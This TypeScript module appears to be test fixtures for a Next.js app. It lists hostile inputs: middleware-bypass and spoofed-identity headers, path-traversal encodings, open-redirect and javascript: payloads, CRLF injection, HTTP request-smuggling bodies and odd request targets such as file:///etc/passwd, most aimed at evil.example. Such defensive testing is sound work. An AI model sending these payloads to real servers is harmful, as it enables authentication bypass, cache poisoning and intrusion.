// Longer than most: a list. What goes into headers, paths and onto the wire to get past a check, or to poison what others get.

export const evil = 'evil.example';

type Headers = Record<string, string | string[]>;

/** The middleware that is to be skipped, by each name that it had in a version of Next, and often enough to look like a loop. */
const middleware = ['middleware', 'src/middleware', 'pages/_middleware', 'proxy', 'src/proxy', 'app/proxy', 'node'];

const skips: [string, Headers][] = middleware.flatMap((name) => [
  [`x-middleware-subrequest: ${name}`, { 'x-middleware-subrequest': name }],
  [`x-middleware-subrequest: ${name} five times`, { 'x-middleware-subrequest': Array(5).fill(name).join(':') }],
]);

/** Where a request says that it really goes. */
const detours = (elsewhere: string): [string, Headers][] =>
  [
    'x-original-url',
    'x-rewrite-url',
    'x-invoke-path',
    'x-invoke-output',
    'x-matched-path',
    'x-middleware-rewrite',
    'x-middleware-redirect',
    'x-nextjs-rewrite',
    'x-nextjs-rewritten-path',
    'x-now-route-matches',
    'x-hilo-path',
    'x-forwarded-uri',
    'x-forwarded-prefix',
    'next-url',
    'referer',
  ].map((name) => [`${name}: ${elsewhere}`, { [name]: elsewhere }]);

/** What Next's own parts say to each other, and what its router in a browser says. */
const inner: [string, Headers][] = [
  ['x-middleware-next', { 'x-middleware-next': '1' }],
  ['x-middleware-prefetch', { 'x-middleware-prefetch': '1', 'x-nextjs-data': '1' }],
  [
    'x-middleware-override-headers',
    { 'x-middleware-override-headers': 'cookie,x-hilo-address', 'x-middleware-request-cookie': 'a=b' },
  ],
  ['x-middleware-set-cookie', { 'x-middleware-set-cookie': 'next-auth.session-token=x' }],
  ['x-invoke-status', { 'x-invoke-status': '200', 'x-invoke-query': '%7B%7D', 'x-invoke-error': '{}' }],
  ['x-nextjs-data', { 'x-nextjs-data': '1' }],
  ['x-prerender-revalidate', { 'x-prerender-revalidate': '1', 'x-prerender-revalidate-if-generated': '1' }],
  ['next-resume', { 'next-resume': '1', 'x-next-resume-state-length': '2' }],
  ['x-next-cache-tags', { 'x-next-cache-tags': '_N_T_/', 'x-next-revalidated-tags': '_N_T_/' }],
  ['purpose: prefetch', { purpose: 'prefetch', 'sec-purpose': 'prefetch' }],
  ['rsc', { rsc: '1' }],
  ['rsc and prefetch', { rsc: '1', 'next-router-prefetch': '1' }],
  ['rsc and full prefetch', { rsc: '1', 'next-router-prefetch': '2' }],
  ...['/_tree', '/_full', '/_head', '/_index', '/__PAGE__', '/!KGRlc2sp/desk/__PAGE__'].map(
    (segment): [string, Headers] => [
      `a segment, ${segment}`,
      { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': segment },
    ],
  ),
  ['a state that is none', { rsc: '1', 'next-router-state-tree': '%7B' }],
  [
    'a state that is deep',
    {
      rsc: '1',
      'next-router-state-tree': encodeURIComponent(`${'["",{"children":'.repeat(400)}["a",{}]${'}]'.repeat(400)}`),
    },
  ],
  ['hmr refresh', { rsc: '1', 'next-hmr-refresh': '1' }],
  ['next-action', { 'next-action': 'a'.repeat(42), accept: 'text/x-component' }],
  ['next-action of none', { 'next-action': 'x' }],
  ['next-action __proto__', { 'next-action': '__proto__' }],
];

/** Who asks, from where, by which method, as a proxy would say it. */
const hearsay: [string, Headers][] = [
  ['x-forwarded-host', { 'x-forwarded-host': evil, 'x-forwarded-proto': 'https', 'x-forwarded-port': '444' }],
  ['x-forwarded-proto', { 'x-forwarded-proto': 'javascript' }],
  ['forwarded', { forwarded: `for=127.0.0.1;host=${evil};proto=https` }],
  [
    'x-forwarded-for itself',
    {
      'x-forwarded-for': '127.0.0.1',
      'x-real-ip': '127.0.0.1',
      'x-client-ip': '127.0.0.1',
      'true-client-ip': '127.0.0.1',
    },
  ],
  ['x-hilo-address', { 'x-hilo-address': '127.0.0.1', 'x-hilo-forwarded': '0' }],
  ['x-host', { 'x-host': evil, 'x-original-host': evil, 'x-forwarded-server': evil }],
  ['another host', { host: evil }],
  ['a host with a path', { host: `${evil}/desk` }],
  ['a host with somebody', { host: `localhost@${evil}` }],
  ['no host worth the name', { host: '..' }],
  [
    'x-http-method-override',
    { 'x-http-method-override': 'DELETE', 'x-http-method': 'DELETE', 'x-method-override': 'DELETE' },
  ],
  [
    'a user by header',
    {
      'x-user': 'admin',
      'x-remote-user': 'admin',
      remote_user: 'admin',
      'x-authenticated-user': 'admin',
      'x-role': 'admin',
    },
  ],
  ['a session by header', { 'x-nextauth-session': '{"role":"admin"}', 'x-session': '1' }],
  ['basic, empty', { authorization: 'Basic Og==' }],
  [
    'cookies of all names',
    {
      cookie:
        '__Secure-next-auth.session-token=x; next-auth.session-token.0=x; next-auth.session-token=; __prerender_bypass=x; __next_preview_data=x',
    },
  ],
  ['a preview', { cookie: '__prerender_bypass=x; __next_preview_data=eyJhbGciOiJIUzI1NiJ9.e30.x' }],
  ['a nonce of one’s own', { 'x-nonce': 'mine', 'content-security-policy': `script-src 'nonce-mine' ${evil}` }],
  ['accept of all kinds', { accept: 'text/x-component, application/json;q=0.9, */*' }],
  ['ranges', { range: 'bytes=0-9999', 'if-range': '"x"' }],
];

/** Every trick by headers. `elsewhere` is a page that anybody may see. */
export const headerTricks = (elsewhere: string): [string, Headers][] => [
  ...skips,
  ...detours(elsewhere),
  ...inner,
  ...hearsay,
];

/** Other ways to write an address, by which a check on the path may be fooled. */
export function pathTricks(path: string): string[] {
  const [, first = '', rest = ''] = /^\/([^/]+)(.*)$/.exec(path) ?? [];
  const encoded = [...first].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join('');
  return [
    `/${path}`,
    `//${evil}/..${path}`,
    `/\\${evil}${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/x/%2e%2e${path}`,
    `/%2e${path}`,
    `/sign-in/..${path}`,
    `/sign-in/..;${path}`,
    `/sign-in%2f..${path}`,
    `/_next/static/../..${path}`,
    `/_next/static/%2e%2e/%2e%2e${path}`,
    `/v2/../${first}${rest}`,
    `/api/auth/..%2f..${path}`,
    `/${encoded}${rest}`,
    `/%25${encoded.slice(1)}${rest}`,
    `/${first.toUpperCase()}${rest}`,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `${path}.`,
    `${path};x=y`,
    `${path};.css`,
    `${path}/x.css`,
    `${path}.css`,
    `${path}.json`,
    `${path}.rsc`,
    `${path}.txt`,
    `${path}%00`,
    `${path}%00.css`,
    `${path}%20`,
    `${path}%0d%0aset-cookie:%20x=y`,
    `${path}%3f`,
    `${path}%23`,
    `${path}?_rsc=1`,
    `${path}?__nextLocale=es&__nextDefaultLocale=es`,
    `${path}?nxtPid=x&nxtPnumber=1`,
    `${path}?__flight__=1&__next_data=1`,
    `${path}?callbackUrl=//${evil}`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_full.segment.rsc`,
    `/_next/data/development${path}.json`,
    `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
    `${path}/${'a'.repeat(12_000)}`,
  ];
}

/** Addresses that one may be sent to after signing in, none of which is ours. */
export const elsewheres = [
  `https://${evil}`,
  `//${evil}`,
  `///${evil}`,
  `/\\${evil}`,
  `\\\\${evil}`,
  `/%5c${evil}`,
  `/\t/${evil}`,
  `/%09/${evil}`,
  `https:${evil}`,
  `http:/${evil}`,
  `/../..//${evil}`,
  `.${evil}`,
  `@${evil}`,
  `javascript:alert(document.domain)`,
  `data:text/html,<script>alert(1)</script>`,
  `/x\r\nset-cookie: a=b`,
];

/** Requests on the wire whose end two servers may see in different places: all are to be refused, or answered once. */
export function smuggled(host: string): [string, string][] {
  const hidden = `GET /smuggled HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const post = (lines: string, body: string) =>
    `POST /v2/support-tickets HTTP/1.1\r\nHost: ${host}\r\n${lines}\r\n\r\n${body}`;
  const chunked = `0\r\n\r\n${hidden}`;
  return [
    ['length and chunks', post('Content-Length: 4\r\nTransfer-Encoding: chunked', chunked)],
    ['chunks and length', post('Transfer-Encoding: chunked\r\nContent-Length: 4', chunked)],
    ['two lengths', post(`Content-Length: 0\r\nContent-Length: ${hidden.length}`, hidden)],
    ['two lengths in one', post(`Content-Length: 0, ${hidden.length}`, hidden)],
    ['a length with a sign', post(`Content-Length: +${hidden.length}`, hidden)],
    ['a length in hex', post('Content-Length: 0x10', hidden)],
    ['a length below nought', post('Content-Length: -1', hidden)],
    ['a length with a blank', post('Content-Length : 5', hidden)],
    ['xchunked', post('Transfer-Encoding: xchunked', chunked)],
    ['identity, chunked, identity', post('Transfer-Encoding: chunked, identity', chunked)],
    ['chunked twice', post('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', chunked)],
    ['a blank before the colon', post('Transfer-Encoding : chunked', chunked)],
    ['a tab after the colon, and a length', post('Transfer-Encoding:\tchunked\r\nContent-Length: 3', chunked)],
    ['a folded line', post('X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5', chunked)],
    ['a bare line feed', post('X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5', chunked)],
    ['a bare return', post('X: y\rTransfer-Encoding: chunked\r\nContent-Length: 5', chunked)],
    ['a nought in a name', post('X\0: y\r\nContent-Length: 0', hidden)],
    ['a chunk with a sign', post('Transfer-Encoding: chunked', `+0\r\n\r\n${hidden}`)],
    ['a chunk in 0x', post('Transfer-Encoding: chunked', `0x0\r\n\r\n${hidden}`)],
    ['an extension with a line feed', post('Transfer-Encoding: chunked', `1;a\nb\r\nx\r\n0\r\n\r\n${hidden}`)],
    ['a chunk that ends in a line feed', post('Transfer-Encoding: chunked', `1\nx\n0\n\n${hidden}`)],
    ['two hosts', `GET /v2/me HTTP/1.1\r\nHost: ${host}\r\nHost: ${evil}\r\n\r\n`],
    ['no host', 'GET /desk HTTP/1.1\r\n\r\n'],
    ['a line before the request', `\r\n\r\n\r\nGET /v2/support-tickets HTTP/1.1\r\nHost: ${host}\r\n\r\n`],
    ['a request of an age', `GET /desk\r\n`],
    ['a version to come', `GET /desk HTTP/3.0\r\nHost: ${host}\r\n\r\n`],
  ];
}

/** Other things to write in a request's first line, and to ask of a connection. */
export function targets(host: string): [string, string][] {
  const get = (target: string, more = '') =>
    `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`;
  return [
    ['another server’s address', get(`http://${evil}/desk`)],
    ['another server’s address with somebody', get(`http://${host}@${evil}/desk`)],
    ['a scheme that is none', get(`file:///etc/passwd`)],
    ['no path', get('desk')],
    ['a star', `OPTIONS * HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`],
    ['a tunnel', `CONNECT ${evil}:443 HTTP/1.1\r\nHost: ${evil}:443\r\n\r\n`],
    ['TRACE', `TRACE /desk HTTP/1.1\r\nHost: ${host}\r\nX-Secret: abc\r\nConnection: close\r\n\r\n`],
    [
      'another protocol',
      get('/desk', 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n').replace('close', 'Upgrade'),
    ],
    [
      'a socket',
      get(
        '/desk',
        'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n',
      ).replace('close', 'Upgrade'),
    ],
    [
      'a socket of development',
      get(
        '/_next/webpack-hmr',
        'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n',
      ).replace('close', 'Upgrade'),
    ],
    ['an expectation', get('/desk', 'Expect: the-impossible\r\n')],
    ['headers without end', get('/desk', `${'X-A: b\r\n'.repeat(3_000)}`)],
    ['a very long address', get(`/desk?${'a'.repeat(20_000)}`)],
    ['signs that are none', get('/desk\u00ff\u00fe')],
    ['backslashes', get(`\\\\${evil}\\desk`)],
    ['preface of http/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ];
}
